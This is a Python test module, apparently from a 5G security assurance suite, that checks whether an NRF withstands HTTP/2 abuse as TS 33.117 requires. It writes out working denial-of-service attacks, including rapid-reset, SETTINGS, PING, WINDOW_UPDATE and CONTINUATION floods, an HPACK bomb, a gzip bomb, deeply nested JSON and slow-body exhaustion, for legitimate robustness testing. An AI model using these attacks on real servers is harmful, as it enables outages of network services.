"""TS 33.117 §4.4.4 on the SBI: what HTTP/2 lets one client make a server do, and whether others notice.

While one connection attacks, another asks the NRF as anybody does; its answers are what counts.
"""

from __future__ import annotations

import asyncio
import gzip
from collections.abc import Awaitable, Callable, Iterator

from cinq.assurance.cases.ts33117.tc_bvt_robustness import CASE
from cinq.assurance.sbi.frames import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    LARGEST,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Link,
    block,
    frame,
    integer,
    literal,
)
from cinq.assurance.sbi.hostile import BAD, Place, answers, at_nrf
from cinq.assurance.trial import Trial
from cinq.ran.scenarios import check
from cinq.ran.scenarios.check import Failed

SEARCH = "/nnrf-disc/v1/nf-instances?target-nf-type=UDM&requester-nf-type=AMF"
OTHERS_S = 1.0  # so long another client waits for an answer at the most
ENDED_S = 10.0
LIMIT = "what a server's memory does is seen on its host alone"
JSON = (("content-type", "application/json"),)
Attack = Callable[[Link, str], Awaitable[str]]
"""Attacks on a connection, authority given. Returns what came of it; Failed: the server bears with it."""


class Others:
    """Another client of the NRF, on a connection of its own. worst: seconds that it waited."""

    def __init__(self, place: Place) -> None:
        self._place = place
        self.worst = 0.0
        self.asked = 0

    async def ask(self) -> None:
        """Failed: it is not answered as it was."""
        loop = asyncio.get_running_loop()
        begun = loop.time()
        answer = await self._place.ask("GET", SEARCH)
        self.worst, self.asked = max(self.worst, loop.time() - begun), self.asked + 1
        check.equal(answer.status, 200, "the status of another client's search")

    async def try_(self) -> None:
        """What is not answered has waited for ever."""
        try:
            await self.ask()
        except Failed:
            self.worst = float("inf")


def attack(name: str, title: str, what: str) -> Callable[[Attack], Attack]:
    """A sub-case. what: is found when the server has had enough."""

    def declare(act: Attack) -> Attack:
        async def play(trial: Trial) -> None:
            async with at_nrf(trial) as place:
                others = Others(place)
                await answers(trial, "another client's search", place.ask("GET", SEARCH), (200,))
                link, authority = await _opened(trial, place)
                try:
                    trial.step(title)
                    with trial.finding(what) as seen:
                        seen.text = await _beside(others, act(link, authority))
                    with trial.finding(f"meanwhile others are answered within {OTHERS_S:g} s") as seen:
                        await others.ask()
                        seen.text = f"{others.asked} searches, at worst {others.worst:.3f} s"
                        check.that(others.worst < OTHERS_S, f"one waited for {others.worst:.1f} s")
                finally:
                    link.close()
                again, _ = await _opened(trial, place)
                again.close()

        CASE.sub(name, title, needs=("sbi nrf",), limit=LIMIT, within=120.0)(play)
        return act

    return declare


async def _opened(trial: Trial, place: Place) -> tuple[Link, str]:
    """A control: a connection that the bench writes frame by frame is answered."""
    link, authority = Link(), ""
    with trial.control("a request that the bench writes frame by frame is answered") as seen:
        link, authority = await place.me.raw()
        await link.send(request(1, authority))
        seen.text = await link.answer(1)
        check.that(1 in link.answered, f"it is not: {seen.text}")
    return link, authority


async def _beside(others: Others, attacking: Awaitable[str]) -> str:
    """The attack, and searches of another client all the while."""
    searching = asyncio.ensure_future(_searching(others))
    try:
        return await attacking
    finally:
        searching.cancel()


async def _searching(others: Others) -> None:
    while True:
        await others.try_()
        await asyncio.sleep(0.05)


def request(
    stream: int, authority: str, *more: tuple[str, str], ends: bool = True, method: str = "GET"
) -> bytes:
    flags = END_HEADERS | (END_STREAM if ends else 0)
    return frame(HEADERS, block(method, SEARCH, authority, *more), flags=flags, stream=stream)


async def pushed(link: Link, octets: Iterator[bytes], what: str) -> str:
    """Sends them until the server ends the connection. Failed: it takes them all."""
    sent = 0
    for each in octets:
        if not await link.send(each):
            break
        sent += len(each)
        await asyncio.sleep(0)
    if await link.until_ended(ENDED_S):
        return f"after {sent} octets: {link.ended}"
    raise Failed(f"it takes {what}, {sent} octets, and does not end the connection")


def batches(of: Callable[[int], bytes], count: int, each: int = 100) -> Iterator[bytes]:
    for begin in range(0, count, each):
        yield b"".join(of(number) for number in range(begin, begin + each))


ENDS = "the server ends the connection"


@attack("DEV-109", "rapid reset: requests that are given up at once (CVE-2023-44487)", ENDS)
async def rapid_reset(link: Link, authority: str) -> str:
    def one(number: int) -> bytes:
        stream = 3 + 2 * number
        return request(stream, authority) + frame(RST_STREAM, CANCEL.to_bytes(4, "big"), stream=stream)

    return await pushed(link, batches(one, 20_000), "20000 requests that are given up")


@attack("DEV-109-settings", "a flood of SETTINGS (CVE-2019-9515)", ENDS)
async def settings_flood(link: Link, authority: str) -> str:
    made = frame(SETTINGS, (4).to_bytes(2, "big") + (65_535).to_bytes(4, "big"))
    return await pushed(link, batches(lambda _: made, 20_000), "20000 SETTINGS")


@attack("DEV-109-ping", "a flood of PING (CVE-2019-9512)", ENDS)
async def ping_flood(link: Link, authority: str) -> str:
    made = frame(PING, bytes(8))
    return await pushed(link, batches(lambda _: made, 20_000), "20000 PINGs")


@attack("DEV-109-window", "a flood of WINDOW_UPDATE", ENDS)
async def window_flood(link: Link, authority: str) -> str:
    made = frame(WINDOW_UPDATE, (1).to_bytes(4, "big"))
    return await pushed(link, batches(lambda _: made, 100_000, 1000), "100000 WINDOW_UPDATEs")


@attack("continuation", "CONTINUATION frames without an end (CVE-2024-27316 and others)", ENDS)
async def continuation_flood(link: Link, authority: str) -> str:
    piece = literal("x", "y" * 100) * 100
    await link.send(frame(HEADERS, block("GET", SEARCH, authority), flags=END_STREAM, stream=3))
    made = frame(CONTINUATION, piece, stream=3)
    return await pushed(link, batches(lambda _: made, 4000, 10), "4000 CONTINUATION frames")


async def refused_stream(link: Link, octets: bytes, stream: int) -> str:
    """One request: its stream or the connection is refused. Failed: it is answered as if it were none of this."""
    await link.send(octets)
    told = await link.answer(stream, ENDED_S)
    answered = link.answered.get(stream)
    if answered is not None and told != "status 0":
        check.that(int(told.rpartition(" ")[2]) in BAD, f"it is answered: {told}")
    return told


@attack(
    "hpack",
    "a header block that becomes fifty megabytes (HPACK bomb)",
    "the request or the connection is refused",
)
async def hpack_bomb(link: Link, authority: str) -> str:
    """Octets of the table are named again and again (RFC 7541 §7.3)."""
    plain = block("GET", SEARCH, authority) + literal("x", "y" * 3900, kept=True)
    pieces = [plain, *[integer(62, 7, 0x80) * (LARGEST - 100)] * 1]
    made = frame(HEADERS, pieces[0], flags=END_STREAM, stream=3)
    made += frame(CONTINUATION, pieces[1], flags=END_HEADERS, stream=3)
    return await refused_stream(link, made, 3)


def upload(body: bytes, authority: str, stream: int, *more: tuple[str, str]) -> bytes:
    """A subscription whose body this is, in frames."""
    fields = block("POST", "/nnrf-nfm/v1/subscriptions", authority, *JSON, *more)
    made = [frame(HEADERS, fields, flags=END_HEADERS, stream=stream)]
    for begin in range(0, len(body), LARGEST):
        piece = body[begin : begin + LARGEST]
        last = begin + LARGEST >= len(body)
        made.append(frame(DATA, piece, flags=END_STREAM if last else 0, stream=stream))
    return b"".join(made)


@attack("gzip", "a body of 60 kB that becomes 60 MB (gzip bomb)", "the request is refused")
async def gzip_bomb(link: Link, authority: str) -> str:
    whole = b'{"x":"' + b"0" * 60_000_000 + b'"}'
    body = await asyncio.to_thread(gzip.compress, whole, 9)  # the bench itself is to keep its time
    return await refused_stream(link, upload(body, authority, 3, ("content-encoding", "gzip")), 3)


@attack("deep", "JSON of thirty thousand arrays in each other", "the request is refused")
async def deep_json(link: Link, authority: str) -> str:
    return await refused_stream(
        link, upload(b'{"x":' + b"[" * 30_000 + b"]" * 30_000 + b"}", authority, 3), 3
    )


@attack("DEV-108", "a body of 300 MB", "the request or the connection is refused before all of it is there")
async def endless_body(link: Link, authority: str) -> str:
    fields = block("POST", "/nnrf-nfm/v1/subscriptions", authority, *JSON)
    await link.send(frame(HEADERS, fields, flags=END_HEADERS, stream=3))
    piece, sent = frame(DATA, b" " * LARGEST, stream=3), 0
    while sent < 300_000_000:
        if not await link.send(piece):
            break
        sent += LARGEST
        await asyncio.sleep(0)
        if 3 in link.answered or 3 in link.reset or link.ended:
            return f"after {sent} octets: {await link.answer(3)}"
    if link.ended or 3 in link.answered or 3 in link.reset:
        return f"after {sent} octets: {await link.answer(3)}"
    raise Failed(f"after {sent} octets nothing is said")


@CASE.sub(
    "DEV-108-slow", "hundreds of requests whose bodies come octet by octet", needs=("sbi nrf",), within=120.0
)
async def slow_bodies(trial: Trial) -> None:
    async with at_nrf(trial) as place:
        await answers(trial, "another client's search", place.ask("GET", SEARCH), (200,))
        others, links = Others(place), list[Link]()
        try:
            trial.step("five connections with a hundred requests each, a DATA frame of one octet at a time")
            for _ in range(5):
                link, authority = await _opened(trial, place)
                links.append(link)
                fields = block("POST", "/nnrf-nfm/v1/subscriptions", authority, *JSON)
                for number in range(100):
                    await link.send(frame(HEADERS, fields, flags=END_HEADERS, stream=3 + 2 * number))
            for _ in range(10):
                if others.worst >= OTHERS_S:
                    break
                for link in links:
                    await link.send(b"".join(frame(DATA, b" ", stream=3 + 2 * n) for n in range(100)))
                await others.try_()
            with trial.finding(f"meanwhile others are answered within {OTHERS_S:g} s") as seen:
                await others.ask()
                seen.text = f"{others.asked} searches, at worst {others.worst:.3f} s"
                check.that(others.worst < OTHERS_S, f"one waited for {others.worst:.1f} s")
        finally:
            for link in links:
                link.close()


@CASE.sub("chunk", "octets that are no HTTP/2", needs=("sbi nrf",))
async def no_http2(trial: Trial) -> None:
    async with at_nrf(trial) as place:
        for what, octets in (
            ("the head of a frame of 16 MB", b"\xff\xff\xff\x99\0\0\0\0\x01"),
            ("a frame larger than allowed", frame(DATA, bytes(LARGEST + 100), stream=1)),
            ("HTTP/1.1", b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"),
            ("DATA on a stream that is not open", frame(DATA, b"x", stream=9)),
            ("HEADERS on stream 0", frame(HEADERS, b"\x82", flags=END_HEADERS)),
            ("WINDOW_UPDATE of 0", frame(WINDOW_UPDATE, bytes(4))),
            ("RST_STREAM of 3 octets", frame(RST_STREAM, bytes(3), stream=1)),
            ("an index that no table has", frame(HEADERS, b"\xff\xff\x7f", flags=END_HEADERS, stream=3)),
        ):
            link, _ = await _opened(trial, place)
            with trial.finding(f"{what}: the connection is ended") as seen:
                await link.send(octets)
                check.that(await link.until_ended(ENDED_S), "it is not")
                seen.text = link.ended
            link.close()
            await answers(trial, f"{what}: another client's search", place.ask("GET", SEARCH), (200,))
